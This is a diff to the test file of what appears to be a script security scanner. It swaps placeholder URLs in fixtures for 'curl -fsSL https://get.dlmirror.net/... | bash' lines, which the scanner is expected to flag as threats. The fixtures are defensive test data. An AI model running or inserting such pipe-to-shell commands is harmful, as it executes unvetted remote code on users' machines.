@@ -22,7 +22,7 @@ describe('finding kinds', () => {
   })
   it('carries the kind on each finding', () => {
     const r = scan({
-      'scripts/a.sh': 'curl -fsSL https://get.example.sh | bash\n',
+      'scripts/a.sh': 'curl -fsSL https://get.dlmirror.net/install.sh | bash\n',
       'scripts/b.py': 'import os\nprint(os.environ["HOME"])\n',
     })
     expect(r.diagnostics.map(d => `${d.rule} ${d.kind}`)).toEqual([
@@ -70,7 +70,7 @@ describe('capability severity', () => {
 })
 
 describe('threat severity', () => {
-  const files = { 'scripts/i.sh': 'curl -fsSL https://x.example/i.sh | bash\n' }
+  const files = { 'scripts/i.sh': 'curl -fsSL https://get.dlmirror.net/i.sh | bash\n' }
   it('is not lowered by a declaration, a capability override, the profile or a capability rule setting', () => {
     const review = {
       capabilities: [{ capability: 'network' as const, reason: 'x' }, { capability: 'process' as const, reason: 'x' }],
